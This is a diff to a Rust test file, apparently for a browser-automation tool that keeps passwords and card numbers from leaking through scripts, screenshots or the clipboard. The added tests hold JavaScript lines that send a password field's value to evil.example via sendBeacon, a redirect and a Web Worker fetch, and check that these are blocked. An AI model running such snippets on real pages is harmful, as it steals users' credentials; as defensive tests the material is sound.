@@ -199,6 +199,11 @@ async fn nothing_takes_it_away() {
         "fetch('/sign-in/to/here?p=' + encodeURIComponent(value))",
         "new Promise((done, fail) => { const i = new Image(); i.onerror = fail; i.onload = done; i.src = 'https://evil.example/sign-in/to/evil/' + encodeURIComponent(value) })",
         "fetch('https://evil.example/sign-in/to/evil', { headers: { 'x-p': encodeURIComponent(value) } })",
+        "Promise.reject(navigator.sendBeacon('https://evil.example/sign-in/to/evil', new URLSearchParams({ password: value })))",
+        "fetch('/sign-in/redirect?status=308&to=https%3A%2F%2Fevil.example%2Fsign-in%2Fto%2Fevil', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ password: value }) })",
+        "new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob([`onmessage = (e) =>
+            fetch('https://evil.example/sign-in/to/evil', { method: 'POST', mode: 'no-cors', body: e.data }).then(() => postMessage(1), () => postMessage(0))`])));
+            w.onmessage = (e) => e.data ? done() : fail(); w.postMessage(value) })",
     ] {
         let code = format!(
             "(() => {{ const value = document.querySelector('#password').value; return {code}.then(() => 'arrived', () => 'failed') }})()"
@@ -322,12 +327,12 @@ async fn a_code_goes_into_its_boxes() {
     world.end().await;
 }
 
-fn picture(jpeg: &[u8]) -> RgbImage {
+pub(super) fn picture(jpeg: &[u8]) -> RgbImage {
     image::load_from_memory(jpeg).unwrap().into_rgb8()
 }
 
 /// Fails unless everything at a place of the picture is painted over.
-fn painted(picture: &RgbImage, place: &Value, what: &str) {
+pub(super) fn painted(picture: &RgbImage, place: &Value, what: &str) {
     let number = |name: &str| place[name].as_f64().unwrap();
     let (left, top) = (number("x").max(0.0) as u32, number("y").max(0.0) as u32);
     let right = (number("x") + number("width")) as u32;
@@ -351,6 +356,13 @@ async fn pictures_show_nothing_of_it() {
          <p id=echo></p>
          <div id=host></div>
          <textarea id=copy></textarea>
+         <p id=halves><b></b><i></i></p>
+         <input id=empty>
+         <style>#generated::before { content: attr(data-copy) }</style>
+         <p id=generated></p>
+         <select id=list><option></option></select>
+         <canvas id=canvas width=300 height=30></canvas>
+         <iframe id=frame width=300 height=60></iframe>
          <script>
            const field = document.getElementById('password');
            const root = document.getElementById('host').attachShadow({ mode: 'open' });
@@ -361,6 +373,14 @@ async fn pictures_show_nothing_of_it() {
              document.getElementById('echo').textContent = 'You typed ' + field.value + '.';
              document.getElementById('copy').value = 'again: ' + field.value;
              root.getElementById('inside').textContent = field.value;
+             document.querySelector('#halves b').textContent = field.value.slice(0, 7);
+             document.querySelector('#halves i').textContent = field.value.slice(7);
+             document.getElementById('empty').placeholder = field.value;
+             document.getElementById('generated').dataset.copy = field.value;
+             document.querySelector('#list option').textContent = field.value;
+             document.getElementById('canvas').getContext('2d').fillText(field.value, 10, 20);
+             document.getElementById('frame').contentDocument.body.innerHTML = '<b></b>';
+             document.getElementById('frame').contentDocument.querySelector('b').textContent = field.value;
            });
          </script>";
     world.made(HOST, body).await;
@@ -374,6 +394,15 @@ async fn pictures_show_nothing_of_it() {
     let places = "JSON.stringify({
         field: document.getElementById('password').getBoundingClientRect(),
         copy: document.getElementById('copy').getBoundingClientRect(),
+        first: document.querySelector('#halves b').getBoundingClientRect(),
+        second: document.querySelector('#halves i').getBoundingClientRect(),
+        empty: document.getElementById('empty').getBoundingClientRect(),
+        generated: document.getElementById('generated').getBoundingClientRect(),
+        list: document.getElementById('list').getBoundingClientRect(),
+        canvas: document.getElementById('canvas').getBoundingClientRect(),
+        frame: (() => { const frame = document.getElementById('frame'); const outer = frame.getBoundingClientRect();
+          const inner = frame.contentDocument.querySelector('b').getBoundingClientRect();
+          return { x: outer.x + frame.clientLeft + inner.x, y: outer.y + frame.clientTop + inner.y, width: inner.width, height: inner.height } })(),
         inside: document.getElementById('host').shadowRoot.getElementById('inside').getBoundingClientRect(),
         echo: (() => { const r = document.createRange(); const t = document.getElementById('echo').firstChild; r.setStart(t, 10); r.setEnd(t, t.length - 1); return r.getBoundingClientRect() })(),
       })";
@@ -469,14 +498,34 @@ async fn nothing_is_copied_out_of_it() {
             .outcome;
         assert_eq!(outcome.success, key == "Control+A", "{}", outcome.message);
     }
+    // Neither what the page copied itself, here or when it is left.
+    let copies = "document.addEventListener('click', () => { addEventListener('copy', (event) => {
+        event.clipboardData.setData('text/plain', document.querySelector('#number').value); event.preventDefault(); },
+        { once: true, capture: true }); document.execCommand('copy'); }, { once: true }); 0";
+    world.stage.evaluate(copies).await;
     world.perform(click(by("#note"))).await;
-    let paste = "Control+V".to_owned();
-    world.perform(Action::PressKey { key: paste }).await;
+    let paste = || Action::PressKey {
+        key: "Control+V".to_owned(),
+    };
+    let outcome = world.perform(paste()).await.outcome;
+    assert!(!outcome.success, "{}", outcome.message);
     let note = world
         .stage
         .evaluate("document.querySelector('#note').value")
         .await;
     world.says_nothing_in("the clipboard", &note);
+    world.page("www.bank.example", "card").await;
+    world.perform(click(by("#note"))).await;
+    let outcome = world.perform(paste()).await.outcome;
+    assert!(!outcome.success, "{}", outcome.message);
+    world.source.reveals.store(true, Ordering::SeqCst);
+    let outcome = world.perform(paste()).await.outcome;
+    assert!(outcome.success, "{}", outcome.message);
+    let note = world
+        .stage
+        .evaluate("document.querySelector('#note').value")
+        .await;
+    assert_eq!(note, CARD[1].1, "the page copied nothing");
     world.end().await;
 }
 
